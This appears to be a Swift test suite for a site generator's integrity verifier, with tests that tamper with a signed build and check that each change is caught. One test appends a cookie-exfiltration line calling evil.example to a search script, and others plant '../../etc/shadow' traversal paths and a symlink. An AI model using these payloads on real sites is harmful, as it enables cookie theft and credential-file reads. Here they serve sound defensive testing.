import Crypto
import XCTest
import SitegenText
import SitegenContent
import SitegenSite
import SitegenTemplates
import SitegenBuild

/// Issue 8, problem 3: `verify` covers every file, refuses paths that leave the site, and
/// catches every listed tampering once a root hash or a public key is given.
final class VerifyTests: XCTestCase {
    /// One signed build of the default site; each test tampers with a copy of it.
    static let built: (folder: URL, root: String, publicKey: String) = {
        let folder = BuiltSite.temporaryFolder("signed")
        let pair = SiteSigner.generate()
        var builder = SiteBuilder(contentDirectory: BuiltSite.content, outputDirectory: folder, config: SiteConfig(), theme: StandardTheme())
        do {
            builder.signer = try SiteSigner(keyFileText: pair.privateKey, file: "key")
            let summary = try builder.build()
            return (folder, summary.rootHash, pair.publicKey)
        } catch {
            fatalError("the default site does not build: \(error)")
        }
    }()

    private func copy() throws -> URL {
        let copy = BuiltSite.temporaryFolder("copy").appendingPathComponent("public")
        try FileManager.default.copyItem(at: Self.built.folder, to: copy)
        return copy
    }

    private func verify(_ site: URL, root: String? = built.root, key: Bool = false) throws -> SiteVerifier.Report {
        try SiteVerifier(root: site, expectedRoot: root, publicKey: key ? (Self.built.publicKey, "key.pub") : nil).verify()
    }

    private func append(_ text: String, to file: URL) throws {
        let handle = try FileHandle(forWritingTo: file)
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(text.utf8))
        try handle.close()
    }

    func testAnUntouchedCopyVerifiesWithRootAndKey() throws {
        let site = try copy()
        let report = try verify(site, key: true)
        XCTAssertEqual(report.problems, [])
        XCTAssertEqual(report.rootHash, Self.built.root)
        XCTAssertEqual(report.files, BuiltSite.files(under: site).count - 2, "every file but the manifest and its signature is listed")
    }

    func testTheRootHashIsOnTheHomePageAndInTheFeed() throws {
        for page in ["index.html", "feed.xml"] {
            let text = try String(contentsOf: Self.built.folder.appendingPathComponent(page), encoding: .utf8)
            XCTAssertTrue(text.contains(Self.built.root), "\(page) must carry the root hash")
            XCTAssertFalse(text.contains(SiteManifest.rootPlaceholder), page)
        }
        let manifest = try Data(contentsOf: Self.built.folder.appendingPathComponent(SiteManifest.path))
        XCTAssertEqual(SHA256.hash(data: manifest).map { String(format: "%02x", $0) }.joined(), Self.built.root)
    }

    func testAppendingToSearchScriptIsCaught() throws {
        let site = try copy()
        try append("fetch('https://evil.example/'+document.cookie)\n", to: site.appendingPathComponent("assets/search.js"))
        XCTAssertTrue(try verify(site).problems.contains { $0.path == "assets/search.js" })
    }

    func testEditingTheHomePageOrAProgramPageIsCaught() throws {
        let site = try copy()
        let index = site.appendingPathComponent("index.html")
        let text = try String(contentsOf: index, encoding: .utf8)
        try text.replacingOccurrences(of: "<h2>보고서</h2>", with: "<h2>가짜</h2>").write(to: index, atomically: true, encoding: .utf8)
        let program = try XCTUnwrap(BuiltSite.files(under: site).first { $0.hasPrefix("programs/") && $0.hasSuffix("/index.html") && $0 != "programs/index.html" })
        try append("<!-- edited -->", to: site.appendingPathComponent(program))
        let paths = try verify(site).problems.map(\.path)
        XCTAssertTrue(paths.contains("index.html"), "\(paths)")
        XCTAssertTrue(paths.contains(program), "\(paths)")
    }

    func testDeletingEveryReleaseIsCaught() throws {
        let site = try copy()
        try FileManager.default.removeItem(at: site.appendingPathComponent("releases"))
        let problems = try verify(site).problems
        // The site manifest lists each release's manifest, which lists the release's files.
        XCTAssertTrue(problems.contains { $0.path == "releases/2022-03-citizen-cooperation-bureau/manifest.json" && $0.message == "missing" })
    }

    /// Issue 26: a file is listed once, in the site manifest or in its release's manifest (whose
    /// entry in the site manifest ties it to the root hash).
    func testEachFileIsListedOnceAndAFileAddedToAReleaseIsCaught() throws {
        let site = try copy()
        let manifest = try SiteManifest.decode([UInt8](try Data(contentsOf: site.appendingPathComponent(SiteManifest.path))))
        let underReleases = manifest.files.map(\.path).filter { $0.hasPrefix("releases/") || $0.hasPrefix("data/releases/") }
        XCTAssertFalse(underReleases.isEmpty)
        XCTAssertTrue(underReleases.allSatisfy { $0.hasSuffix("/manifest.json") }, "\(underReleases.filter { !$0.hasSuffix("/manifest.json") }.prefix(3))")
        let planted = "releases/2022-03-citizen-cooperation-bureau/items/planted.html"
        try Data("<p>planted</p>".utf8).write(to: site.appendingPathComponent(planted))
        XCTAssertTrue(try verify(site).problems.contains { $0.path == planted })
    }

    func testEditingAReportTogetherWithItsReleaseManifestIsCaught() throws {
        let site = try copy()
        let release = "releases/2022-03-citizen-cooperation-bureau/"
        let report = site.appendingPathComponent(release + "report.txt")
        let old = ReleaseReader.sha256Hex([UInt8](try Data(contentsOf: report)))
        try append("조작된 줄\n", to: report)
        let new = ReleaseReader.sha256Hex([UInt8](try Data(contentsOf: report)))
        let manifestURL = site.appendingPathComponent(release + "manifest.json")
        let manifest = try String(contentsOf: manifestURL, encoding: .utf8)
        try manifest.replacingOccurrences(of: old, with: new).write(to: manifestURL, atomically: true, encoding: .utf8)
        let paths = try verify(site).problems.map(\.path)
        XCTAssertTrue(paths.contains(release + "report.txt"), "\(paths)")
        XCTAssertTrue(paths.contains(release + "manifest.json"), "\(paths)")
    }

    func testARewrittenSiteManifestFailsTheRootAndTheSignature() throws {
        let site = try copy()
        try append("x", to: site.appendingPathComponent("assets/search.js"))
        // The attacker rebuilds the site manifest so the copy agrees with itself …
        let bytes = [UInt8](try Data(contentsOf: site.appendingPathComponent("assets/search.js")))
        var manifest = try SiteManifest.decode([UInt8](try Data(contentsOf: site.appendingPathComponent(SiteManifest.path))))
        let position = try XCTUnwrap(manifest.files.firstIndex { $0.path == "assets/search.js" })
        manifest.files[position] = SiteManifest.entry(path: "assets/search.js", bytes: bytes)
        try Data(manifest.encoded()).write(to: site.appendingPathComponent(SiteManifest.path))
        // … which passes without a root (and says so), and fails with the root or the key.
        let selfCheck = try verify(site, root: nil)
        XCTAssertFalse(selfCheck.trusted)
        XCTAssertFalse(try verify(site).problems.isEmpty, "the root hash must catch it")
        XCTAssertTrue(try verify(site, root: nil, key: true).problems.contains { $0.path == SiteManifest.signaturePath })
    }

    func testAManifestEntryOutsideTheSiteIsRefusedNotRead() throws {
        let site = try copy()
        let release = "releases/2022-03-citizen-cooperation-bureau/manifest.json"
        let url = site.appendingPathComponent(release)
        let manifest = try String(contentsOf: url, encoding: .utf8)
        try manifest.replacingOccurrences(of: "\"path\":\"releases/2022-03-citizen-cooperation-bureau/report.txt\"",
                                          with: "\"path\":\"../../etc/shadow\"").write(to: url, atomically: true, encoding: .utf8)
        let problems = try verify(site, root: nil).problems
        XCTAssertTrue(problems.contains { $0.message.contains("leaves the site") }, "\(problems)")

        var siteManifest = try SiteManifest.decode([UInt8](try Data(contentsOf: site.appendingPathComponent(SiteManifest.path))))
        siteManifest.files.append(.init(path: "../../etc/shadow", sha256: String(repeating: "0", count: 64), bytes: 1))
        try Data(siteManifest.encoded()).write(to: site.appendingPathComponent(SiteManifest.path))
        XCTAssertThrowsError(try verify(site, root: nil)) { error in
            XCTAssertTrue("\(error)".contains("leaves the site"), "\(error)")
        }
    }

    func testASymlinkPlantedInTheSiteIsReported() throws {
        let site = try copy()
        try FileManager.default.createSymbolicLink(atPath: site.appendingPathComponent("shadow.txt").path, withDestinationPath: "/etc/shadow")
        XCTAssertTrue(try verify(site).problems.contains { $0.path == "shadow.txt" })
    }

    func testTheCommandLineVerifiesWithRootAndKey() throws {
        let scratch = try SitegenBinary("verify-cli")
        XCTAssertEqual(try scratch.run(["keygen", "key"]).status, 0)
        let build = try scratch.run(["build", "--output", "public", "--sign", "key"])
        XCTAssertEqual(build.status, 0, build.error)
        let root = try XCTUnwrap(build.output.split(separator: "\n").first { $0.hasPrefix("root ") }?.split(separator: " ")[1])
        XCTAssertEqual(root.count, 64)
        XCTAssertEqual(try scratch.run(["verify", "public", "--root", String(root), "--public-key", "key.pub"]).status, 0)
        try append("x", to: scratch.url("public/assets/search.js"))
        let tampered = try scratch.run(["verify", "public", "--root", String(root)])
        XCTAssertEqual(tampered.status, 1)
        XCTAssertTrue(tampered.output.contains("public/assets/search.js: changed"), tampered.output)
    }
}
